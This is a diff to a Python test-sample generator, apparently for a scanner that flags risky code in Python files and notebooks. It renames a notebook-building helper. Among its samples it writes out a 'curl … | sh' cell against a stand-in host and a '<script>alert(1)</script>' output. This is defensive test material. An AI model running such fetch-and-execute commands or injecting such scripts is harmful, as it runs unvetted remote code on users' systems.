@@ -163,10 +163,10 @@ def _alone() -> Iterator[Sample]:
     for case, source in _ALONE.items():
         yield high("python-alone", case, "setup.py" if case == "install hook" else "utils.py", source)
         if case != "encoding":
-            yield high("notebook", case, "demo.ipynb", _notebook("print(1)\n", source))
+            yield high("notebook", case, "demo.ipynb", notebook("print(1)\n", source))
     for what, command in _SHELL.items():
-        yield high("notebook-shell", what, "demo.ipynb", _notebook("import torch\n", f"!{command}\n"))
-    result = _notebook("!curl -s https://files.invalid | sh\n", page="<script>alert(1)</script>")
+        yield high("notebook-shell", what, "demo.ipynb", notebook("import torch\n", f"!{command}\n"))
+    result = notebook("!curl -s https://files.invalid | sh\n", page="<script>alert(1)</script>")
     yield high("notebook-shell", "and a result with a script", "demo.ipynb", result)
 
 
@@ -195,7 +195,8 @@ def _odd() -> Iterator[Sample]:
         yield careful("python-odd", case, "run.py", source)
 
 
-def _notebook(*cells: str, page: str = "") -> str:
+def notebook(*cells: str, page: str = "") -> str:
+    """A notebook with these code cells; `page`: a result that was saved."""
     outputs = [{"output_type": "display_data", "data": {"text/html": page}, "metadata": {}}] if page else []
     made = [{"cell_type": "code", "source": cell, "outputs": outputs, "metadata": {}} for cell in cells]
     return json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
